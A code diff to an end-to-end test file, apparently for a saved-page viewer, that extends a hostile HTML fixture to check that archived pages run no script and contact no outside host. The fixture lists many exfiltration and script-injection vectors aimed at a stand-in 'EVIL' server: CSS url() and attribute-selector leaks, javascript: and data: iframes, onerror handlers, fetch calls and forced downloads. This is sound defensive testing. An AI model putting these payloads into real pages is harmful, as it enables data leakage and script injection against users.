@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import hashlib
 import sys
 import threading
 from collections.abc import Callable, Iterator
@@ -24,6 +25,7 @@ pytestmark = pytest.mark.e2e
 
 Keep = Callable[..., SavedSnapshot]
 
+ZIP = b"PK\x03\x04 not a real archive"
 HOSTILE = """<!doctype html><html><head><title>t</title>
 <meta http-equiv="refresh" content="0;url=EVIL/refresh">
 <base href="EVIL/base/">
@@ -35,10 +37,17 @@ HOSTILE = """<!doctype html><html><head><title>t</title>
 <link rel="icon" href="EVIL/icon.png">
 <link rel="manifest" href="EVIL/manifest.json">
 <style>@import url(EVIL/i.css); body{background:url(EVIL/b.png)}
-@font-face{font-family:x;src:url(EVIL/f.woff2)} p{font-family:x}</style>
+@font-face{font-family:x;src:url(EVIL/f.woff2)} p{font-family:x}
+input[name^="a"]{background:url(EVIL/leak)}
+p{cursor:url(EVIL/c.cur),auto;list-style-image:url(EVIL/l);border-image:url(EVIL/bi) 1;
+mask:url(EVIL/m.svg#x);filter:url(EVIL/fl.svg#x);clip-path:url(EVIL/cp.svg#x)}
+p::before{content:image-set(url(EVIL/is) 1x)}
+@container style(--x){p{background:url(EVIL/co)}}</style>
+<link rel="modulepreload" href="EVIL/module.js">
 <script>document.title='ran'; fetch('EVIL/fetch')</script>
 </head><body>
-<p id="text">正文</p>
+<p id="text">正文</p><input type="image" src="EVIL/ii">
+<a id="download" download="x.zip" href="data:application/zip,x">zip</a><iframe src="ZIP.bin"></iframe>
 <script src="EVIL/x.js"></script>
 <script type="module">parent.postMessage('ran','*')</script>
 <img src="EVIL/i.png" onerror="document.body.id='ran'">
@@ -49,7 +58,7 @@ HOSTILE = """<!doctype html><html><head><title>t</title>
 <iframe src="javascript:parent.document.body.id='ran'"></iframe>
 <iframe src="data:text/html,<script>parent.postMessage('ran','*')</script>"></iframe>
 <object data="EVIL/o"></object><embed src="EVIL/e">
-<video src="EVIL/v.mp4" autoplay poster="EVIL/p.png"></video>
+<table background="EVIL/bg"><td>x</table><video src="EVIL/v.mp4" autoplay poster="EVIL/p.png"></video>
 <audio src="EVIL/a.mp3" autoplay></audio>
 <svg><image href="EVIL/s.png"/><use href="EVIL/u.svg#x"/></svg>
 <form id="form" action="EVIL/form"><input name="a"><button id="send">send</button></form>
@@ -94,9 +103,13 @@ def reached(page: Page, viewer: Viewer, keep: Keep) -> Iterator[list[str]]:
     elsewhere = Elsewhere()
     threading.Thread(target=elsewhere.serve_forever, daemon=True).start()
     evil = f"http://127.0.0.1:{elsewhere.server_port}"
+    html = HOSTILE.replace("APP", viewer.app_origin).replace("EVIL", evil)
     saved = keep(
-        "https://a.example/", HOSTILE.replace("APP", viewer.app_origin).replace("EVIL", evil)
+        "https://a.example/",
+        html.replace("ZIP", hashlib.sha256(ZIP).hexdigest()),
+        files=((ZIP, "application/zip"),),
     )
+    page.on("download", lambda _download: elsewhere.reached.append("a download"))
     page.goto(start_address(viewer, saved.link_id))
     page.wait_for_selector(".frame[data-state=shown]")
     page.wait_for_timeout(1500)
@@ -111,7 +124,9 @@ def test_nothing_runs_and_nothing_leaves(page: Page, viewer: Viewer, reached: li
     assert reached == []
 
 
-@pytest.mark.parametrize("target", ["#out", "#self", "#top", "#script", "#app", "#send", "#trash"])
+@pytest.mark.parametrize(
+    "target", ["#out", "#self", "#top", "#script", "#app", "#send", "#trash", "#download"]
+)
 def test_click_leaves_the_copy_where_it_is(
     page: Page, viewer: Viewer, reached: list[str], target: str
 ) -> None:
